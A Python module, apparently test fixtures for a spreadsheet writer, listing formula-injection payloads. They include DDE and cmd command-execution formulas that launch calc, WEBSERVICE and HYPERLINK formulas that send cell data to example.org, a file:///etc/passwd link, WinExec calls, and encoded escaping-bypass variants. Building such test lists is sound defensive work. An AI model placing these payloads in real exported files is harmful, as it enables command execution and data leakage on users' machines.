"""Texts that a careless writer turns into live formulas, links or commands."""

from __future__ import annotations

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)", "{=1+1}", "{=SUM(A1:A2*B1:B2)}",
    "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")", "=WEBSERVICE(\"http://example.org/\"&A1)",
    "=IMPORTXML(\"http://example.org\",\"//a\")", "=IMAGE(\"http://example.org/a.png\")",
    "=IMPORTDATA(\"http://example.org\")", "=INDIRECT(\"A\"&1)", "=EXEC(\"calc\")",
    "=CALL(\"Kernel32\",\"WinExec\")",
    "=REGISTER.ID(\"Kernel32\",\"WinExec\")", "http://example.org/", "https://example.org/a?b=c",
    "ftp://example.org/a", "mailto:a@example.org", "file:///etc/passwd", "internal:Front!A1",
    "external:c:\\a.xlsx#Sheet1!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", ";=1+1",
    "=1+1;=2+2", "_x003D_1+1", "</t></si><f>1+1</f>", "<![CDATA[=1+1]]>", "%3D1%2B1", "\uff1d1+1",
)  # fmt: skip
